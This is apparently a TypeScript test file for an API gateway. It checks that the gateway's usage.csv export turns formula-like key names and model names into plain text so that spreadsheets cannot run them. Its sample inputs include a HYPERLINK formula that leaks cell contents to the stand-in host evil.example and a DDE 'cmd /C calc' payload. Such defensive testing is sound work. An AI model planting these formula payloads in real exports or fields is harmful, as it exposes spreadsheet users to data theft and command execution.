/**
 * GET /api/usage.csv opens in spreadsheets, and two of its columns are chosen by others than the
 * admin: the key's name (whoever may create keys) and the model (the client, for models the
 * gateway passes on by name). A cell that begins like a formula must arrive as text (OWASP, CSV
 * injection): prefixed with a single quote and quoted.
 */
import { testDatabases } from '../support/databases.js';
import { closeWithFakeOllama, eventually, startWithFakeOllama, type TestGateway } from '../support/gateway.js';
import type { FakeOllama } from '../upstream/fake-ollama.js';

const [sqlite] = await testDatabases();

const KEY_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const MODEL = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe('usage.csv with a key name and a model name that look like formulas', () => {
  let started: { upstream: FakeOllama; gateway: TestGateway };

  beforeAll(async () => {
    started = await startWithFakeOllama(await sqlite!.create());
  });

  afterAll(async () => {
    await closeWithFakeOllama(started ?? {});
  });

  it('writes both as text: a quote in front, the cell quoted', async () => {
    const { gateway } = started;
    const { key, id } = await gateway.createKey({ name: KEY_NAME });
    const chat = (model: string) =>
      fetch(`${gateway.proxyUrl}/api/chat`, {
        method: 'POST',
        headers: { 'x-api-key': key },
        body: JSON.stringify({ model, messages: [{ role: 'user', content: 'hello' }], stream: false }),
      });
    expect((await chat('llama3.2')).status).toBe(200);
    // The client's own model name, which Ollama does not know: a failed request, recorded under it.
    await (await chat(MODEL)).text();

    const lines = await eventually(async () => {
      const csv = await gateway.admin(`/api/usage.csv?key_id=${id}`);
      expect(csv.status).toBe(200);
      const rows = (await csv.text()).split('\r\n').slice(1, -1);
      expect(rows).toHaveLength(2);
      return rows;
    });
    const quotedName = `"'${KEY_NAME.replaceAll('"', '""')}"`;
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(new RegExp(`^[^,]+,${id},${escape(quotedName)},llama3\\.2:latest,1,`)),
        // The rollup names the model as the gateway normalised it (the :latest tag added).
        expect.stringMatching(new RegExp(`^[^,]+,${id},${escape(quotedName)},${escape(`"'${MODEL}:latest"`)},1,`)),
      ]),
    );
    // Nothing the spreadsheet would run: no cell begins with = + - @ (the quote comes first).
    for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
